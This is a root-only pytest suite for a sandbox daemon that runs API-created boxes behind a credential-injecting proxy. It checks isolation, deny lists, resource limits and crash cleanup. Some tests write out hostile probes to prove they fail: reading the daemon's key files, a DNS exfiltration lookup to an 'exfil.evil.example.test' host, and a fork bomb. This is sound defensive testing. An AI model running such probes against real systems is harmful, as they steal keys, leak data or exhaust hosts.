"""Sandboxes created over the API run (issue 4; SPEC §5, §6): POST /v2/sandboxes/boxes starts a
runtime (network namespace, cgroup, disk), POST {dataplane_url}/execute runs a command in it and
answers {"stdout", "stderr", "exit_code"}, idle_ttl_seconds stops it, DELETE removes it, and a
daemon killed with -9 cleans up at its next start.

Clients inside ignore proxy variables: capture is transparent. Names reach local origins through
dns_remap. Needs root (network namespaces, nftables, cgroups, loop devices); skipped otherwise.
"""
import hashlib
import json
import os
import signal
import subprocess
import threading
import time

import pytest

from conftest import SESSION_SECRETS
from helpers.control import (ControlDaemon, detail, header_rule, injected, ok, proxy_config,
                             worker_connections)

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="sandboxes need root")

NAME = "api.example.test"


# -- what the daemon created on the host, by its deterministic names (box_runtime.h) ------------

def prefixes(d):
    """(netns/table/cgroup prefix, link prefix) of daemon d's sandboxes."""
    md = hashlib.sha256(os.path.realpath(d.state_dir).encode()).digest()
    b36 = "0123456789abcdefghijklmnopqrstuvwxyz"
    return "apbox" + md[:4].hex(), "".join(b36[b % 36] for b in md[4:8])


def short(box_id):
    return "".join(c for c in box_id.lower() if c.isalnum())[:10]


def netns_names(d):
    prefix, _ = prefixes(d)
    out = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout
    return [line.split()[0] for line in out.splitlines() if line.startswith(prefix + "-")]


def netns_of(d, box_id):
    return [n for n in netns_names(d) if n.endswith("-" + short(box_id))]


def links(d):
    _, lp = prefixes(d)
    out = subprocess.run(["ip", "-o", "link", "show"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if (" %s-" % lp) in line]


def links_after_teardown(d, timeout=5.0):
    """links(d) once the kernel has dismantled the stopped boxes' namespaces: a teardown sets
    the host end down and leaves the veth pair to go with its namespace, in the background."""
    deadline = time.monotonic() + timeout
    left = links(d)
    while left and time.monotonic() < deadline:
        time.sleep(0.05)
        left = links(d)
    return left


def nft_tables(d):
    prefix, _ = prefixes(d)
    out = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if (" %s_" % prefix) in line]


def cgroups(d):
    """Per-box groups under the daemon's subtree, across the v1 controllers or v2."""
    prefix, _ = prefixes(d)
    found = set()
    for root in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/cpu",
                 "/sys/fs/cgroup"):
        base = os.path.join(root, prefix)
        if os.path.isdir(base):
            found |= {e for e in os.listdir(base) if os.path.isdir(os.path.join(base, e))}
    return found


def box_dirs(d):
    base = os.path.join(d.state_dir, "boxes")
    return sorted(e for e in os.listdir(base) if os.path.isdir(os.path.join(base, e))) \
        if os.path.isdir(base) else []


def host_procs(pattern):
    """Host processes whose command line is exactly pattern (a marker the test chose)."""
    p = subprocess.run(["pgrep", "-x", "-f", pattern], capture_output=True, text=True)
    return p.stdout.split()


# -- fixtures -------------------------------------------------------------------------------------

def api_rule(secret_key="KEY", hosts=(NAME,), extra=()):
    return header_rule("api", hosts, [("Authorization", "workspace_secret",
                                       "Bearer {%s}" % secret_key)] + list(extra))


class Env:
    def __init__(self, ctl, d, origin=None):
        self.ctl = ctl
        self.d = d
        self.origin = origin  # the TLS origin behind NAME (dns_remap)
        self.api = d.api()

    def secret(self, key, prefix="sk-box"):
        value = self.ctl.secret(prefix)
        ok(self.api.put_secret(key, value, configs=[{"host": NAME}]))
        return value

    def box(self, name, pc=None, **fields):
        body = {"name": name, "proxy_config": pc or proxy_config()}
        body.update(fields)
        created = ok(self.api.create_box(body), 201)
        created["credential"] = self.ctl.credential(created)
        assert created["status"] == "ready"
        assert created["dataplane_url"], created
        return created

    def run(self, box, command, **kw):
        return self.api.execute(box["dataplane_url"], dict(command=command, **kw))

    def ok_run(self, box, command, **kw):
        return ok(self.run(box, command, **kw), 200)

    def status(self, name):
        return ok(self.api.get_box(name))["status"]


@pytest.fixture
def env(ctl):
    origin = ctl.origin(NAME)
    d = ctl.start()
    return Env(ctl, d, origin)


def curl(path, host=NAME, extra=""):
    return "curl -sS -m 10 --noproxy '*' %s https://%s%s" % (extra, host, path)


# -- the data path from inside an API box ---------------------------------------------------------

def test_curl_inside_a_box_gets_the_credential_and_stdout_comes_back(ctl, env):
    origin = env.origin
    key = env.secret("KEY")
    box = env.box("curl-box", proxy_config(api_rule()))
    assert len(netns_of(env.d, box["id"])) == 1, "create did not start the box's namespace"
    res = env.ok_run(box, curl("/v1/models"))
    assert res["exit_code"] == 0, res
    assert res["stdout"] == "ok from %s\n" % NAME, res
    [req] = origin.snapshot()
    assert req.path == "/v1/models" and req.values("Authorization") == ["Bearer " + key]
    assert key not in json.dumps(res)


def test_python_requests_inside_a_box_gets_the_credential(ctl, env):
    origin = env.origin
    key = env.secret("KEY")
    box = env.box("py-box", proxy_config(api_rule()))
    script = ("import requests\n"
              "s = requests.Session(); s.trust_env = False\n"
              "r = s.get('https://%s/py', timeout=10)\n"
              "print(r.status_code, r.text.strip())\n" % NAME)
    res = env.ok_run(box, "/usr/bin/python3 -c \"$SCRIPT\"", env={"SCRIPT": script})
    assert res["exit_code"] == 0, res
    assert res["stdout"] == "200 ok from %s\n" % NAME, res
    [req] = origin.snapshot()
    assert req.path == "/py" and req.values("Authorization") == ["Bearer " + key]


def test_environment_and_files_hold_no_secret(ctl, env):
    key = env.secret("KEY")
    rule = api_rule()
    rule["env_vars"] = {"OPENAI_API_KEY": "placeholder"}
    box = env.box("env-box", proxy_config(rule), env_vars={"BOX_VAR": "from-box", "OVR": "box"})
    d = env.d
    state = os.path.realpath(d.state_dir)
    script = ("env; cat /proc/self/environ; echo; "
              "ls -la %(s)s %(s)s/boxes 2>&1; cat %(s)s/master.key %(s)s/ca.key %(s)s/bootstrap.key "
              "%(s)s/authproxy.db %(c)s 2>&1 | head -c 20000; "
              "grep -rl -- \"$NEEDLE\" /workspace /tmp /etc /run /home /root /var /opt /srv "
              "2>/dev/null; true" % {"s": state, "c": os.path.realpath(d.config_path)})
    # The needle is passed split so that the command line itself never holds the value.
    half = len(key) // 2
    res = env.ok_run(box, "NEEDLE=\"$A$B\"; " + script, env={"A": key[:half], "B": key[half:],
                                                             "OVR": "request"})
    out = res["stdout"] + res["stderr"]
    assert key not in out, "the secret is readable inside"
    assert "BEGIN" not in out, "a key or the CA key is readable inside"
    assert "OPENAI_API_KEY=placeholder" in res["stdout"]
    assert "BOX_VAR=from-box" in res["stdout"]
    assert "OVR=request" in res["stdout"] and "OVR=box" not in res["stdout"]
    assert "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt" in res["stdout"]
    assert "REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt" in res["stdout"]
    whoami = env.ok_run(box, "id -u; pwd")
    assert whoami["stdout"] == "65534\n/workspace\n"


def test_a_denied_host_is_refused_and_its_dns_never_leaves(ctl, env):
    denied = ctl.stack.tls_origin("deny.example.test")
    ctl.stack.dns.add_a("fine.example.test", "203.0.113.67")
    ctl.stack.dns.add_a("exfil.evil.example.test", "203.0.113.66")
    d = ctl.start()  # a second daemon, so its dns_remap holds deny.example.test
    e = Env(ctl, d)
    box = e.box("deny-box", proxy_config(access_control={
        "deny_list": ["deny.example.test", "*.evil.example.test"]}))
    res = e.ok_run(box, curl("/", "deny.example.test",
                             "--resolve deny.example.test:443:203.0.113.8"))
    assert res["exit_code"] != 0, res
    assert denied.snapshot() == []
    script = ("import socket\n"
              "for n in ('secret-data-4321.exfil.evil.example.test', 'fine.example.test'):\n"
              "    try:\n"
              "        print(n, socket.gethostbyname(n))\n"
              "    except OSError as e:\n"
              "        print(n, 'failed')\n")
    res = e.ok_run(box, "/usr/bin/python3 -c \"$S\"", env={"S": script})
    assert "secret-data-4321.exfil.evil.example.test failed" in res["stdout"], res
    assert "fine.example.test 203.0.113.67" in res["stdout"], res
    assert not ctl.stack.dns.queried("secret-data-4321.exfil.evil.example.test")
    assert ctl.stack.dns.queried("fine.example.test")
    # Each query's audit line names the box and its workspace, refused or answered, as the
    # box's request lines do (the refused curl above wrote one).
    [req] = [r for r in d.audit_records() if r["method"] != "DNS" and r["host"] == "deny.example.test"]
    assert req["sandbox"] == "deny-box" and req["workspace"], req
    for name, decision in (("secret-data-4321.exfil.evil.example.test", "denied"),
                           ("fine.example.test", "allowed")):
        recs = d.wait_audit(lambda r: r.get("method") == "DNS" and r.get("host") == name
                            and r.get("path") == "A")
        assert recs and all(r["decision"] == decision for r in recs), recs
        assert all(r["sandbox"] == "deny-box" and r["workspace"] == req["workspace"]
                   for r in recs), recs


def test_exit_code_stdout_and_stderr_are_relayed_exactly(env):
    box = env.box("exit-box")
    res = env.ok_run(box, "printf 'out\\000x\\n'; printf 'err\\n' >&2; exit 7")
    assert (res["stdout"], res["stderr"], res["exit_code"]) == ("out\x00x\n", "err\n", 7)
    assert res["timed_out"] is False and res["stdout_truncated"] is False
    res = env.ok_run(box, "kill -TERM $$")
    assert res["exit_code"] == 128 + 15, res
    res = env.ok_run(box, "printf '\\377ok'")
    assert res["stdout"] == "\ufffdok"  # not UTF-8: replaced, never a broken JSON string
    res = env.ok_run(box, "head -c 3000000 /dev/zero")
    assert len(res["stdout"]) == 1 << 20 and res["stdout_truncated"] is True


def test_timeout_kills_the_whole_process_tree_and_reports_it(env):
    box = env.box("timeout-box")
    t0 = time.monotonic()
    res = env.ok_run(box, "echo started; (sleep 6017 &) ; sleep 6017", timeout=1)
    assert time.monotonic() - t0 < 10
    assert res["exit_code"] == 124 and res["timed_out"] is True, res
    assert res["stdout"] == "started\n"
    time.sleep(0.3)
    assert host_procs("sleep 6017") == [], "a process of the timed-out command survived"


def test_bad_requests_are_400_naming_the_field(env):
    box = env.box("bad-box")
    for body, field in (({}, "command"), ({"command": "true", "timeout": 0}, "timeout"),
                        ({"command": "true", "cwd": "relative"}, "cwd"),
                        ({"command": "true", "cwd": "/no/such/dir"}, "cwd"),
                        ({"command": "true", "shell": "/bin/no-such-shell"}, "shell"),
                        ({"command": "true", "env": {"1BAD": "x"}}, "env")):
        r = env.api.execute(box["dataplane_url"], body)
        assert r.status_code == 400, (body, r.status_code, r.text)
        assert detail(r).startswith(field), (body, detail(r))


def test_another_workspaces_box_is_404(env):
    box = env.box("mine")
    other = env.d.create_workspace("other-ws")
    SESSION_SECRETS.add(other)
    r = env.api.with_key(other).execute(box["dataplane_url"], {"command": "true"})
    assert r.status_code == 404, r.text
    r = env.api.with_key("apk_wrong").execute(box["dataplane_url"], {"command": "true"})
    assert r.status_code == 401


def test_two_boxes_at_once_each_get_only_their_own_credential(ctl, env):
    origin = env.origin
    ka, kb = env.secret("KEY_A", "sk-a"), env.secret("KEY_B", "sk-b")
    a = env.box("box-a", proxy_config(api_rule("KEY_A")))
    b = env.box("box-b", proxy_config(api_rule("KEY_B")))
    results = {}

    def work(box, tag):
        results[tag] = env.ok_run(box, "for i in 1 2 3 4 5; do %s; done" % curl("/%s/$i" % tag))

    threads = [threading.Thread(target=work, args=(a, "a")), threading.Thread(target=work, args=(b, "b"))]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert results["a"]["exit_code"] == 0 and results["b"]["exit_code"] == 0, results
    reqs = origin.snapshot()
    assert len(reqs) == 10
    for r in reqs:
        want = ka if r.path.startswith("/a/") else kb
        assert r.values("Authorization") == ["Bearer " + want], (r.path, r.headers)


def test_patch_of_proxy_config_applies_to_the_next_execute(ctl, env):
    origin = env.origin
    env.secret("KEY")
    box = env.box("patch-box", proxy_config(api_rule(extra=[("X-Policy", "plaintext", "v1")])))
    assert env.ok_run(box, curl("/one"))["exit_code"] == 0
    ok(env.api.patch_box("patch-box", {"proxy_config": proxy_config(
        api_rule(extra=[("X-Policy", "plaintext", "v2")]))}))
    assert env.ok_run(box, curl("/two"))["exit_code"] == 0
    got = {r.path: r.values("X-Policy") for r in origin.snapshot()}
    assert got == {"/one": ["v1"], "/two": ["v2"]}


def test_commands_run_asynchronously_and_the_api_stays_responsive(env):
    box = env.box("async-box")
    slow = {}
    t = threading.Thread(target=lambda: slow.setdefault("r", env.ok_run(box, "sleep 2; echo slow")))
    t.start()
    time.sleep(0.3)
    t0 = time.monotonic()
    ok(env.api.healthz())
    ok(env.api.list_boxes())
    fast = env.ok_run(box, "echo fast")
    assert time.monotonic() - t0 < 1.5, "the API waited for a running command"
    assert fast["stdout"] == "fast\n"
    t.join(30)
    assert slow["r"]["stdout"] == "slow\n"


def test_a_burst_of_connections_from_a_box_is_spread_over_the_workers(env):
    """The transparent listener's connections are balanced like the explicit port's
    (test_workers.py): eight opened at once from inside a box end up about four per worker, and the
    ones handed from the accepting worker to the other are served with the credential. The
    daemon is stopped while the box connects (the script waits 1 s first), so the eight wait in
    the queue together; both workers may still wake to them, so without the balance this fails
    only some of the time: test_workers.py is the deterministic check, this one that handed-over
    transparent connections are served."""
    key = env.secret("KEY")
    box = env.box("burst-box", proxy_config(api_rule()))
    script = ("import socket, ssl, sys, time\n"
              "ctx = ssl.create_default_context()\n"
              "time.sleep(1)\n"
              "raw = [socket.create_connection(('%s', 443), timeout=10) for _ in range(8)]\n"
              "tls = [ctx.wrap_socket(s, server_hostname='%s') for s in raw]\n"
              "for i, c in enumerate(tls):\n"
              "    c.sendall(b'GET /burst%%d HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' %% i)\n"
              "    print(c.recv(65536).split(b'\\r\\n')[0].decode())\n"
              "sys.stdout.flush()\n"
              "time.sleep(4)\n" % (NAME, NAME, NAME))
    done = {}
    t = threading.Thread(target=lambda: done.setdefault(
        "r", env.ok_run(box, "/usr/bin/python3 -c \"$SCRIPT\"", env={"SCRIPT": script})))
    t.start()
    time.sleep(0.5)
    os.kill(env.d.proc.pid, signal.SIGSTOP)
    try:
        time.sleep(1.5)
    finally:
        os.kill(env.d.proc.pid, signal.SIGCONT)
    per_worker = None
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and t.is_alive():
        got = worker_connections(env.api)
        if sum(got.values()) == 8:
            per_worker = got
            break
        time.sleep(0.05)
    t.join(30)
    res = done.get("r")
    assert res is not None and res["exit_code"] == 0, res
    assert res["stdout"].splitlines() == ["HTTP/1.1 200 OK"] * 8, res
    assert per_worker is not None, "never saw the box's 8 connections open at once"
    # (within two, as in test_workers.py: both workers may accept at once on each other's
    # count of a moment before)
    assert sorted(per_worker) == [0, 1] and abs(per_worker[0] - per_worker[1]) <= 2, per_worker
    reqs = [r for r in env.origin.snapshot() if r.path.startswith("/burst")]
    assert sorted(r.path for r in reqs) == ["/burst%d" % i for i in range(8)]
    assert all(r.values("Authorization") == ["Bearer " + key] for r in reqs), reqs


def test_fs_capacity_caps_the_workspace_and_files_persist_across_commands(env):
    box = env.box("disk-box", fs_capacity_bytes=32 << 20)
    res = env.ok_run(box, "dd if=/dev/zero of=/workspace/big bs=1M count=64 2>&1; echo rc=$?")
    assert "No space left on device" in res["stdout"] and "rc=0" not in res["stdout"], res
    res = env.ok_run(box, "rm -f /workspace/big; echo kept > /workspace/f; echo t > /tmp/t")
    assert env.ok_run(box, "cat /workspace/f /tmp/t")["stdout"] == "kept\nt\n"


def test_memory_limit_kills_a_command_that_exceeds_it(env):
    box = env.box("mem-box", mem_bytes=64 << 20)
    res = env.ok_run(box, "/usr/bin/python3 -c 'x = bytearray(400 << 20); print(len(x))'")
    assert res["exit_code"] == 128 + 9, res
    assert env.ok_run(box, "echo alive")["stdout"] == "alive\n"


# -- lifecycle ------------------------------------------------------------------------------------

def test_idle_ttl_stops_the_runtime_and_the_next_execute_resumes_it(env):
    d = env.d
    box = env.box("idle-box", idle_ttl_seconds=60)
    assert env.ok_run(box, "echo kept > /workspace/f")["exit_code"] == 0
    deadline = time.monotonic() + 100
    while env.status("idle-box") != "stopped":
        assert time.monotonic() < deadline, "idle_ttl_seconds=60 did not stop the box"
        time.sleep(1)
    assert netns_of(d, box["id"]) == [] and box["id"] not in cgroups(d)
    res = env.ok_run(box, "cat /workspace/f")
    assert res["stdout"] == "kept\n", res
    assert env.status("idle-box") == "ready"
    assert len(netns_of(d, box["id"])) == 1


def test_stop_and_start_endpoints(env):
    box = env.box("ss-box", idle_ttl_seconds=0)
    assert ok(env.api.stop_box("ss-box"))["status"] == "stopped"
    assert netns_of(env.d, box["id"]) == []
    assert ok(env.api.start_box("ss-box"))["status"] == "ready"
    assert len(netns_of(env.d, box["id"])) == 1


def test_delete_stops_the_runtime_answers_its_command_and_removes_everything(env):
    d = env.d
    box = env.box("del-box")
    running = {}
    t = threading.Thread(target=lambda: running.setdefault(
        "r", env.run(box, "sleep 6023")))
    t.start()
    time.sleep(0.5)
    assert host_procs("sleep 6023") != []
    assert env.api.delete_box("del-box").status_code == 204
    t.join(10)
    assert running["r"].status_code == 404, running["r"].text
    assert host_procs("sleep 6023") == []
    assert netns_of(d, box["id"]) == [] and box["id"] not in cgroups(d)
    assert box["id"] not in box_dirs(d)
    assert env.run(box, "true").status_code == 404


def test_twenty_boxes_created_and_deleted_leave_nothing_behind(env):
    d = env.d
    for i in range(20):
        box = env.box("loop-%d" % i)
        assert env.ok_run(box, "true")["exit_code"] == 0
        assert env.api.delete_box("loop-%d" % i).status_code == 204
    assert netns_names(d) == [] and links_after_teardown(d) == [] and nft_tables(d) == []
    assert cgroups(d) == set() and box_dirs(d) == []


def test_kill_9_then_restart_leaves_nothing_stale_and_boxes_work_again(ctl, env):
    origin = env.origin
    key = env.secret("KEY")
    d = env.d
    box = env.box("crash-box", proxy_config(api_rule()))
    stopped = env.box("crash-stopped")
    ok(env.api.stop_box("crash-stopped"))
    assert env.ok_run(box, "echo survived > /workspace/f")["exit_code"] == 0
    def doomed():
        try:
            env.run(box, "sleep 6029")
        except OSError:  # requests' ConnectionError: the daemon is killed under it
            pass

    t = threading.Thread(target=doomed, daemon=True)
    t.start()
    time.sleep(0.5)
    assert host_procs("sleep 6029") != []
    old_ns = netns_of(d, box["id"])
    d.kill9()
    assert netns_of(d, box["id"]) == old_ns, "nothing was left to reconcile"
    d.start()
    assert host_procs("sleep 6029") == [], "a crashed run's process survived the restart"
    assert len(netns_of(d, box["id"])) == 1, netns_names(d)   # the box came back, once
    assert netns_of(d, stopped["id"]) == []                   # a stopped box stays stopped
    assert len(nft_tables(d)) == 1 and len(links(d)) == 1 and cgroups(d) == {box["id"]}
    assert env.status("crash-box") == "ready" and env.status("crash-stopped") == "stopped"
    res = env.ok_run(box, "cat /workspace/f; " + curl("/after"))
    assert res["stdout"] == "survived\nok from %s\n" % NAME, res
    assert [r.values("Authorization") for r in origin.snapshot()] == [["Bearer " + key]]


def test_shutdown_answers_running_commands_and_removes_every_runtime(env):
    d = env.d
    box = env.box("term-box")
    running = {}
    t = threading.Thread(target=lambda: running.setdefault("r", env.run(box, "sleep 6031")))
    t.start()
    time.sleep(0.5)
    assert d.stop(10.0) == 0
    t.join(10)
    assert running["r"].status_code == 503, running["r"].text
    assert host_procs("sleep 6031") == []
    assert netns_names(d) == [] and nft_tables(d) == [] and cgroups(d) == set()
    assert links_after_teardown(d) == []
    assert box["id"] in box_dirs(d), "a box's files must survive a daemon restart"


# -- a daemon that runs no sandboxes --------------------------------------------------------------

def test_without_sandboxes_boxes_are_proxy_only_and_execute_says_why(ctl):
    origin = ctl.origin(NAME)
    stack = ctl.stack
    d = ControlDaemon(stack.binary, os.path.join(stack.tmp, "proxy-only"), stack.dns.addr,
                      stack.config(), extra_args=["--no-sandboxes"])
    stack.daemons.append(d)
    d.start()
    SESSION_SECRETS.add(d.bootstrap_key())
    stack.ca = d.ca_path()
    e = Env(ctl, d)
    key = e.secret("KEY")
    box = e.box("plain-box", proxy_config(api_rule()))
    r = e.run(box, "true")
    assert r.status_code == 501 and "--no-sandboxes" in detail(r), r.text
    assert e.api.stop_box("plain-box").status_code == 501
    assert netns_names(d) == [] and cgroups(d) == set()
    # The box is what it was before runtimes existed: a policy behind its proxy credential.
    assert injected(d.port, origin, NAME, stack.ca, box["credential"]) == (200, ["Bearer " + key])


# -- the hosted SDK -------------------------------------------------------------------------------

def test_sdk_sandbox_run_executes_in_the_box(ctl, env, sdk_dir):
    from test_control_sdk import run_sdk
    origin = env.origin
    key = env.secret("KEY")
    res = run_sdk(sdk_dir, env.d, "run", {
        "name": "sdk-run", "create": True, "proxyConfig": proxy_config(api_rule()),
        "command": curl("/sdk") + "; echo oops >&2; exit 3",
        "expect": {"stdout": "ok from %s\n" % NAME, "stderr": "oops\n", "exit_code": 3}})
    assert res["status"] == 200 and res["request"]["shell"] == "/bin/bash"
    assert [r.values("Authorization") for r in origin.snapshot()] == [["Bearer " + key]]
    res = run_sdk(sdk_dir, env.d, "run", {"name": "sdk-run", "command": "echo $X",
                                           "env": {"X": "from-sdk"},
                                           "expect": {"stdout": "from-sdk\n", "exit_code": 0}})
    assert res["request"]["env"] == {"X": "from-sdk"}


# -- limits: OOM and pids, seen from the box's cgroup (issue 4's list of tests) ------------------

def oom_kills(d, box_id):
    """The kernel's OOM-kill count of the box's memory cgroup (v1 memory.oom_control, v2
    memory.events)."""
    prefix, _ = prefixes(d)
    for path in (os.path.join("/sys/fs/cgroup/memory", prefix, box_id, "memory.oom_control"),
                 os.path.join("/sys/fs/cgroup", prefix, box_id, "memory.events")):
        if os.path.exists(path):
            with open(path) as f:
                for line in f:
                    if line.startswith("oom_kill "):
                        return int(line.split()[1])
    raise AssertionError("no OOM counter for box %s" % box_id)


def test_memory_limit_triggers_an_oom_kill_of_the_boxs_cgroup(env):
    box = env.box("oom-box", mem_bytes=64 << 20)
    before = oom_kills(env.d, box["id"])
    res = env.ok_run(box, "/usr/bin/python3 -c 'x = bytearray(400 << 20); print(\"survived\")'")
    assert res["exit_code"] == 128 + 9 and "survived" not in res["stdout"], res
    assert oom_kills(env.d, box["id"]) > before, "the kill was not the cgroup's OOM killer"
    res = env.ok_run(box, "/usr/bin/python3 -c 'x = bytearray(16 << 20); print(\"fits\")'")
    assert res["stdout"] == "fits\n", res


def test_pids_limit_stops_a_fork_bomb_and_the_box_lives_on(env):
    box = env.box("bomb-box")
    script = ("import os, time\n"
              "n = 0\n"
              "try:\n"
              "    while n < 5000:\n"
              "        if os.fork() == 0:\n"
              "            time.sleep(60); os._exit(0)\n"
              "        n += 1\n"
              "except OSError as e:\n"
              "    print('forked', n, 'refused', e.errno)\n")
    res = env.ok_run(box, "/usr/bin/python3 -c \"$S\"", env={"S": script}, timeout=60)
    words = res["stdout"].split()
    assert words[:1] == ["forked"] and 100 < int(words[1]) < 512 and words[3] == "11", res
    res = env.ok_run(box, "bomb6053() { bomb6053 | bomb6053 & }; bomb6053; sleep 3; echo done",
                     timeout=6)
    assert res["exit_code"] in (0, 124), res
    time.sleep(0.5)
    assert subprocess.run(["pgrep", "-f", "bomb6053"], capture_output=True,
                          text=True).stdout.split() == [], "fork bomb processes survived"
    assert env.ok_run(box, "echo alive")["stdout"] == "alive\n"
